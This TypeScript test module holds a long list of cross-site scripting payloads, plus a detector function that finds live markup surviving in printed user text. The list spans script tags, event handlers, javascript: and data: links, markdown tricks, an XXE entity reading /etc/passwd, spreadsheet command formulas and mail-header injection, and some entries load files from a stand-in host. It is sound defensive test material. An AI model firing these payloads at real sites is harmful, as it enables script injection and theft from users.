/**
 * Texts that run script, load something or break out of their place wherever they are printed without care. Every one
 * calls `pwn` when it works. Put them where visitors or staff may write, then ask `findLiveMarkup` what came through.
 */
export const xssVectors: readonly string[] = [
  // Elements that run at once.
  "<script>pwn()</script>",
  "<SCRIPT>pwn()</SCRIPT>",
  "<script >pwn()</script >",
  "<script/x>pwn()</script>",
  "<script\n>pwn()</script>",
  "<script src=//pwn.example/x.js></script>",
  '<script type="module">pwn()</script>',
  "<script>pwn()//",
  "<<script>pwn()</script>",
  "<scr<script>ipt>pwn()</scr</script>ipt>",
  "</script><script>pwn()</script>",
  "</ScRiPt><img src=x onerror=pwn()>",
  "<!--<script>--><script>pwn()</script>",
  "<img src=x onerror=pwn()>",
  "<img src=x onerror='pwn()'>",
  '<img src=x onerror="pwn()">',
  "<img/src=x/onerror=pwn()>",
  "<img\tsrc=x\tonerror=pwn()>",
  "<img src=x onerror=pwn()//",
  "<img src onerror=pwn()>",
  '<img """><script>pwn()</script>">',
  "<img src=`x`onerror=pwn()>",
  "<img srcset=x onerror=pwn()>",
  "<image src=x onerror=pwn()>",
  "<svg onload=pwn()>",
  "<svg/onload=pwn()>",
  "<svg><script>pwn()</script></svg>",
  "<svg><script href=data:,pwn() />",
  "<svg><a xlink:href='javascript:pwn()'><text y=20>x</text></a></svg>",
  "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
  "<svg><set onbegin=pwn() attributename=x>",
  "<svg><foreignObject><iframe src=javascript:pwn()></foreignObject></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>pwn()</script></svg>#x'/></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=pwn()>",
  "<math><a xlink:href=javascript:pwn()>x</a></math>",
  "<body onload=pwn()>",
  "<body onpageshow=pwn()>",
  "<body background=javascript:pwn()>",
  "<iframe src=javascript:pwn()></iframe>",
  '<iframe srcdoc="<script>pwn()</script>"></iframe>',
  "<iframe srcdoc='&lt;script&gt;pwn()&lt;/script&gt;'></iframe>",
  "<iframe onload=pwn()></iframe>",
  "<frameset onload=pwn()>",
  "<object data=javascript:pwn()></object>",
  "<object data='data:text/html,<script>pwn()</script>'></object>",
  "<embed src=javascript:pwn()>",
  "<embed src='data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg=='>",
  "<applet code=pwn></applet>",
  "<video onerror=pwn()><source></video>",
  "<video src=x onerror=pwn()></video>",
  "<video poster=javascript:pwn()></video>",
  "<audio src=x onerror=pwn()></audio>",
  "<input autofocus onfocus=pwn()>",
  "<textarea autofocus onfocus=pwn()></textarea>",
  "<select autofocus onfocus=pwn()></select>",
  "<keygen autofocus onfocus=pwn()>",
  "<button autofocus onfocus=pwn()>x</button>",
  "<details open ontoggle=pwn()>",
  "<dialog open onclose=pwn()>x</dialog>",
  "<marquee onstart=pwn()>x</marquee>",
  "<marquee loop=1 width=0 onfinish=pwn()>x</marquee>",
  "<div onmouseover=pwn()>x</div>",
  "<div onpointerrawupdate=pwn()>x</div>",
  "<div style='animation:x' onanimationstart=pwn()>x</div>",
  "<div style=background:url(javascript:pwn())>x</div>",
  "<p contenteditable onbeforeinput=pwn()>x</p>",
  "<xss id=x tabindex=1 onfocus=pwn() autofocus></xss>",
  "<a href=javascript:pwn()>x</a>",
  "<a href='java\nscript:pwn()'>x</a>",
  "<form action=javascript:pwn()><input type=submit></form>",
  "<form><button formaction=javascript:pwn()>x</button></form>",
  "<isindex type=image src=1 onerror=pwn()>",
  "<base href=//pwn.example/>",
  '<meta http-equiv=refresh content="0;url=javascript:pwn()">',
  "<link rel=stylesheet href=//pwn.example/x.css>",
  "<style>@import '//pwn.example/x.css';</style>",
  "<style>*{background:url(//pwn.example/pwn())}</style>",
  "<template><script>pwn()</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=pwn()>"></noscript>',
  '<noembed><img title="</noembed><img src=x onerror=pwn()>"></noembed>',
  "<title></title><script>pwn()</script>",
  "</title><script>pwn()</script>",
  "</textarea><script>pwn()</script>",
  "</style><script>pwn()</script>",
  "--><script>pwn()</script>",
  "--!><img src=x onerror=pwn()>",
  "]]><script>pwn()</script>",
  "<![CDATA[<script>pwn()</script>]]>",
  "]]></title><script>pwn()</script><title><![CDATA[",
  '<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>pwn()</h:script></x>',
  "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;pwn()</x>",
  // Out of an attribute, a string or a block of JSON.
  '"><script>pwn()</script>',
  "'><script>pwn()</script>",
  '" onmouseover="pwn()',
  "' onmouseover='pwn()",
  '" autofocus onfocus="pwn()" x="',
  "`onmouseover=pwn()",
  '"};pwn();//',
  "';pwn();//",
  '\\";pwn();//',
  '"}</script><script>pwn()</script>',
  "${pwn()}",
  "{{constructor.constructor('pwn()')()}}",
  "\u2028pwn()\u2029",
  "\ufeff<script>pwn()</script>",
  "\u0000<script>pwn()</script>",
  "＜script＞pwn()＜/script＞",
  "&lt;script&gt;pwn()&lt;/script&gt;",
  "&#60;script&#62;pwn()&#60;/script&#62;",
  "%3Cscript%3Epwn()%3C/script%3E",
  "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
  // Markdown that turns into a link, a picture or markup.
  "[x](javascript:pwn())",
  "[x](JaVaScRiPt:pwn())",
  "[x](java&#10;script:pwn())",
  "[x](&#106;avascript:pwn())",
  "[x](javascript&colon;pwn())",
  "[x](\u0001javascript:pwn())",
  "[x]( javascript:pwn())",
  "[x](<javascript:pwn()>)",
  "[x](vbscript:pwn())",
  "[x](data:text/html,<script>pwn()</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==)",
  "[x](//pwn.example)",
  "[x](\\\\pwn.example)",
  "[x](feed:javascript:pwn())",
  "[x](file:///etc/pwn)",
  "[x](blob:https://x/pwn)",
  '[x](/ok "x\\" onmouseover=pwn() y=\\"")',
  "[x][1]\n\n[1]: javascript:pwn()",
  "<javascript:pwn()>",
  "<data:text/html,pwn()>",
  "![x](javascript:pwn())",
  "![x](data:image/svg+xml,<svg onload=pwn()>)",
  '![x" onerror="pwn()](/x.png)',
  '![x](/x.png "x\\" onerror=\\"pwn()")',
  "![x](x onerror=pwn())",
  "```js\n</code></pre><script>pwn()</script>\n```",
  '```"><img/src/onerror=pwn()>\nx\n```',
  "```html\n<img src=x onerror=pwn()>\n```",
  "`<img src=x onerror=pwn()>`",
  "## <img src=x onerror=pwn()>",
  '## x" onmouseover="pwn()',
  "| <script>pwn()</script> |\n| --- |\n| <img src=x onerror=pwn()> |",
  "x[^1]\n\n[^1]: <script>pwn()</script>",
  'x[^"><script>pwn()</script>]\n\n[^"><script>pwn()</script>]: y',
  "x[^__proto__]\n\n[^__proto__]: pwn()",
  "> [!note]\n> <script>pwn()</script>",
  "> [!<img src=x onerror=pwn()>]\n> x",
  "<details>\n\n<script>pwn()</script>\n\n</details>",
  "[<img src=x onerror=pwn()>](/x)",
  "**<script>pwn()</script>**",
  'https://x.example/"onmouseover=pwn()',
  // Spreadsheets and mail headers take other texts for commands.
  '=HYPERLINK("https://pwn.example","x")',
  "+cmd|' /C pwn'!A0",
  "-2+3+cmd|' /C pwn'!A0",
  "@SUM(1+1)*cmd|' /C pwn'!A0",
  "x\r\nBcc: pwn@pwn.example",
  "x%0d%0aSet-Cookie: pwn=1",
];

/** Elements that none of our pages, feeds or mails has reason to hold where somebody's text is printed. */
const liveElements =
  /<\s*\/?\s*(?:[a-z]+:)?(script|style|noembed|plaintext|iframe|frameset|object|embed|applet|base|meta|link|form|svg|math|template|noscript|title|body|video|audio|marquee|xss|isindex|keygen|image|foreignobject)\b/i;
/** Inside a tag, outside the quotes of its attributes: an event handler. */
const handlers = /[\s/"'`]on[a-z]+\s*=/i;
const addressed = /^(href|src|srcset|action|formaction|data|poster|background|xlink:href)$/i;
const liveAddresses =
  /^[\u0000-\u0020]*(j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t|v\s*b\s*s\s*c\s*r\s*i\s*p\s*t|data|feed|file|blob)\s*:/i;

/** What in `html`, which holds nothing but somebody's text as we print it, would run or load: one line each. */
export function findLiveMarkup(html: string): string[] {
  const found: string[] = [];
  for (const [tag] of html.matchAll(/<[^\s<>][^<>"']*(?:"[^"]*"|'[^']*'|[^<>"'])*>?/g)) {
    if (liveElements.test(tag)) found.push(`element: ${tag}`);
    if (handlers.test(tag.replaceAll(/"[^"]*"|'[^']*'/g, '""'))) found.push(`handler: ${tag}`);
    if (/\sstyle\s*=/i.test(tag.replaceAll(/"[^"]*"|'[^']*'/g, '""'))) found.push(`style: ${tag}`);
    // One attribute after the other, so that what stands in a value is not taken for an attribute.
    for (const [, name = "", double, single, bare] of tag.matchAll(
      /[\s/"'`]([^\s"'<>/=]+)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+))/g,
    )) {
      const address = decodeReferences(double ?? single ?? bare ?? "");
      if (addressed.test(name) && liveAddresses.test(address)) found.push(`address: ${tag}`);
    }
  }
  return found;
}

function decodeReferences(text: string): string {
  const named: Record<string, string> = { amp: "&", lt: "<", gt: ">", quot: '"', colon: ":", tab: "\t", newline: "\n" };
  return text
    .replaceAll(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replaceAll(/&#(\d+);?/g, (_, decimal: string) => String.fromCodePoint(Number(decimal)))
    .replaceAll(/&([a-z]+);/gi, (all: string, name: string) => named[name.toLowerCase()] ?? all);
}
